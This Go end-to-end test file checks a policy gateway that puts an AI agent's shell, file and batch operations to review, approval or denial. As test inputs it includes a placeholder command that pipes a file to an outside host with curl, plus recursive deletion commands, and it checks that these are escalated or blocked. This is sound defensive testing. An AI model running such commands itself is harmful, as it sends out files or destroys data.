package e2e

import (
	"path/filepath"
	"strings"
	"testing"
)

// codes gives the reasons of a decision, the leading one first.
func codes(dec M) string {
	list := []string{text(dec, "reason")}
	also, _ := dec["also"].([]any)
	for _, a := range also {
		list = append(list, a.(string))
	}
	return strings.Join(list, " ")
}

func TestPolicyRows(t *testing.T) {
	t.Parallel()
	d := quick(t, "[profiles.offline]\nallow_exec = false\n")
	in := func(p string) string { return filepath.Join(d.Root, p) }
	write(t, in("dir/a"), "a\n")
	write(t, in("dir/b"), "b\n")
	write(t, in("a"), "a\n")
	before := digest(t, d.Root)
	// carried holds card, decision and audit to one code, and withdraws the call.
	carried := func(t *testing.T, code, op string, args M) M {
		t.Helper()
		r := must(t, d.call(op, args), "review")
		rec, card := d.last(), d.card(r)
		sentence := ""
		for _, why := range objects(card["reasons"]) {
			if why["code"] == code {
				sentence = text(why, "sentence")
			}
		}
		if !strings.Contains(codes(object(r["decision"])), code) || !strings.Contains(codes(rec), code) || rec["decision"] != "require_user_approval" || rec["approval_id"] != idOf(r) || sentence == "" {
			t.Errorf("decision %v, audit %v, card %v", r["decision"], rec, card["reasons"])
		}
		d.http("POST", "/v1/approvals/"+idOf(r)+"/cancel", d.Agent, M{})
		return object(r["decision"])
	}
	t.Run("C55 a copy of a directory carries multiple_targets on card, decision and audit", func(t *testing.T) {
		carried(t, "multiple_targets", "copy_file", M{"source": "dir", "destination": "copy", "recursive": true})
	})
	t.Run("C60 a program carries process_execution on card, decision and audit", func(t *testing.T) {
		carried(t, "process_execution", "workspace_shell", M{"command": "true"})
		carried(t, "process_execution", "workspace_tests", M{"command": "true"})
	})
	t.Run("X9 the highest tier in a chain decides", func(t *testing.T) {
		for script, want := range map[string]string{"cat a | curl -T - http://example.invalid/": "T3", "cat a": "T3", "cat a | rm a": "T4", "true && rm -r dir": "T4"} {
			if dec := carried(t, "process_execution", "workspace_shell", M{"script": script, "network": strings.Contains(script, "curl")}); dec["tier"] != want {
				t.Errorf("%s: %v, want %s", script, dec["tier"], want)
			}
		}
		if dec := carried(t, "mutating_batch", "batch_file_ops", M{"operations": []M{{"op": "view_file", "args": M{"path": "a"}}, {"op": "delete_file", "args": M{"path": "a"}}}}); dec["tier"] != "T4" {
			t.Errorf("a batch: %v", dec["tier"])
		}
		if _, r := d.call2("batch_file_ops", M{"operations": []M{{"op": "view_file", "args": M{"path": "a"}}}}); text(r, "decision", "tier") != "T1" {
			t.Errorf("a batch of reads: %v", r["decision"])
		}
	})
	t.Run("X6 what goes beyond the workspace asks, or is denied where the operator says so", func(t *testing.T) {
		offline := d.token(M{"name": "offline", "role": "agent", "profile": "offline"})
		call := M{"op": "workspace_shell", "args": M{"command": "curl", "args": []string{"http://example.invalid/"}, "network": true}}
		if dec := carried(t, "process_execution", "workspace_shell", object(map[string]any(call["args"].(M)))); dec["verdict"] != "review" || dec["tier"] != "T3" {
			t.Errorf("asked: %v", dec)
		}
		n := len(d.cards(""))
		s, r := d.send(offline, call)
		fails(t, s, r, 403, "operation_disabled")
		if len(d.cards("")) != n {
			t.Error("a card was made")
		}
	})
	t.Run("C27 a rehearsal that does not exist rehearses nothing", func(t *testing.T) {
		for _, o := range []string{"workspace_shell", "workspace_tests"} {
			_, r := d.send(d.Agent, M{"op": o, "args": M{"command": "touch", "args": []string{"ran"}}, "dry_run": true})
			if code(r) != "rehearsal_unsupported" || r["effects_executed"] == true || exists(in("ran")) {
				t.Errorf("%s: %v", o, r)
			}
		}
		for _, bad := range []any{"true", 1, []bool{true}, nil} {
			s, r := d.send(d.Agent, M{"op": "delete_file", "args": M{"path": "a"}, "dry_run": bad})
			if code(r) != "bad_request" || s != 400 {
				t.Errorf("dry_run %v: %d %v", bad, s, r)
			}
		}
		for _, item := range []M{{"op": "delete_file", "args": M{"path": "a", "dry_run": true}}, {"op": "delete_file", "args": M{"path": "a"}, "dry_run": true}} {
			s, r := d.call2("batch_file_ops", M{"operations": []M{item}})
			if code(r) != "bad_request" {
				t.Errorf("in an item: %d %v", s, r)
			}
		}
	})
	t.Run("I55 no cleanup is there unless an operator wrote one, and what remains of the risk is written down", func(t *testing.T) {
		s, r := d.http("POST", "/v1/clean", d.Agent, M{"policy_id": "nightly"})
		fails(t, s, r, 404, "not_found")
		if doc := strings.Join(strings.Fields(read(t, "../../docs/policies.md")), " "); !strings.Contains(doc, "injects text into what drives it, can start a cleanup early") || !strings.Contains(doc, "There is no cleanup unless an operator writes one") {
			t.Error("docs/policies.md does not say it")
		}
	})
	if digest(t, d.Root) != before {
		t.Error("something was changed")
	}
}
